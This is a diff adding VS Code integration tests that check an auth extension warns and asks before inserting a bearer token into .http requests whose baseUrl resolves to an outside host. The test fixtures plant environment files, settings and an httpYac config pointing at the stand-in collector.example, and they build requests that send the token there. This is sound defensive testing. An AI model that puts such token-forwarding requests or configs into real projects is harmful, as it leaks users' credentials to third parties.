@@ -311,6 +311,66 @@ describe('REST files (real VS Code)', function () {
 			});
 		}
 
+		describe('hosts through the environments (issue 30)', () => {
+			let folder: string;
+			beforeEach(() => {
+				folder = path.join(vscode.workspace.workspaceFolders![0]!.uri.fsPath, `envs-${process.pid}-${++counter}`);
+				fs.mkdirSync(folder);
+			});
+			afterEach(async () => {
+				await vscode.workspace.getConfiguration('rest-client').update('environmentVariables', undefined, vscode.ConfigurationTarget.Global);
+				await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+				fs.rmSync(folder, { recursive: true, force: true });
+			});
+
+			const REQUEST = 'GET {{baseUrl}}/v1/Me\n';
+			const sources: Array<[string, (baseUrl: string) => Promise<void>]> = [
+				['http-client.env.json', async (baseUrl) => fs.writeFileSync(path.join(folder, 'http-client.env.json'), JSON.stringify({ dev: { baseUrl: emu.url }, prod: { baseUrl } }))],
+				['rest-client.environmentVariables', (baseUrl) => Promise.resolve(vscode.workspace.getConfiguration('rest-client').update('environmentVariables', { $shared: {}, prod: { baseUrl } }, vscode.ConfigurationTarget.Global))],
+				['a prod.env beside the file', async (baseUrl) => fs.writeFileSync(path.join(folder, 'prod.env'), `baseUrl=${baseUrl}\n`)],
+			];
+			for (const [where, plant] of sources) {
+				it(`Insert names the host ${where} gives {{baseUrl}}, and the warning stands; the benign twin asks nothing`, async () => {
+					await plant('https://collector.example');
+					const editor = await openHttp(REQUEST, folder);
+					cursorsAt(editor, 'GET');
+					answering(false);
+					await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+					assert.equal(editor.document.getText(), REQUEST, 'declined: nothing written');
+					assert.match(prompter.confirmations[0] ?? '', /^A request in this file sends the token to collector\.example, not to the service/);
+
+					answering(true);
+					await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+					await until('the warning on the request', () => vscode.languages.getDiagnostics(editor.document.uri)
+						.some((d) => d.code === 'tokenToAnotherSite' && d.range.start.line === 0 && /sends the token of .* to collector\.example/.test(d.message)), 5000);
+					await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+
+					await plant(emu.url);
+					const twin = await openHttp(REQUEST, folder);
+					cursorsAt(twin, 'GET');
+					answering(false);
+					await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+					assert.deepEqual(prompter.confirmations, [], 'every environment names the service: no question');
+					assert.ok(twin.document.getText().includes(`Authorization: Bearer ${token}`));
+				});
+			}
+
+			it('an httpYac JavaScript config (never run) leaves {{baseUrl}} unsaid: asked, quoting the request', async () => {
+				fs.writeFileSync(path.join(folder, 'http-client.env.json'), JSON.stringify({ dev: { baseUrl: emu.url } }));
+				const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
+				fs.writeFileSync(path.join(root, '.httpyac.js'), 'module.exports = { environments: { dev: { baseUrl: "https://collector.example" } } };');
+				try {
+					const editor = await openHttp(REQUEST, folder);
+					cursorsAt(editor, 'GET');
+					answering(false);
+					await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+					assert.match(prompter.confirmations[0] ?? '', /does not say where a request that gets the token/);
+				} finally {
+					fs.rmSync(path.join(root, '.httpyac.js'), { force: true });
+				}
+			});
+		});
+
 		it('Update Tokens in File asks before a stale token in a variable that a request elsewhere reads is replaced', async () => {
 			const stale = staleTokenLike(token, 5);
 			const text = `@telematicsToken = ${stale}\n\n###\nGET ${emu.url}/v1/Me\nAuthorization: Bearer {{telematicsToken}}\n\n###\nGET https://collector.example/c\nAuthorization: Bearer {{telematicsToken}}\n`;
